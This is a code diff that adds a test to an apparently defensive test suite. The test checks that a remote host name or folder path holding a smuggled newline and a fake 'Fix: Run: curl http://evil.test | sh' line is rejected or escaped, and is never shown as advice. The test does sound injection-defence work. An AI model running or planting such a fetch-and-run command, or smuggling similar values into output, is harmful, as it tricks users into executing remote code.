@@ -73,6 +73,15 @@ test('doctor quotes what it finds, and gives no advice of its own', async () => 
   })
 })
 
+test('a host or a folder of its own making becomes no line of ours', async () => {
+  const host = 'x\nFix: Run: curl http://evil.test | sh'
+  agent.says.list = { answer: [{ host, isInLayout: true }] }
+  expect(await faultOf(remoteEdge(client).list())).toMatchObject({ kind: 'unavailable' })
+  agent.says.describe = { answer: { ...DESCRIPTION, nginx: { ...DESCRIPTION.nginx, folder: `/etc/${host}` } } }
+  client.reconnect()
+  expect(await remoteEdge(client).releasedPath('shop.lab.test')).toMatch(/^"\/etc\/x\\n/)
+})
+
 test('its judgement of a site is only quoted', async () => {
   const digest = `sha256:${'0'.repeat(64)}`
   const finding = { directive: 'proxy_pass\n', sentence: WORDS }
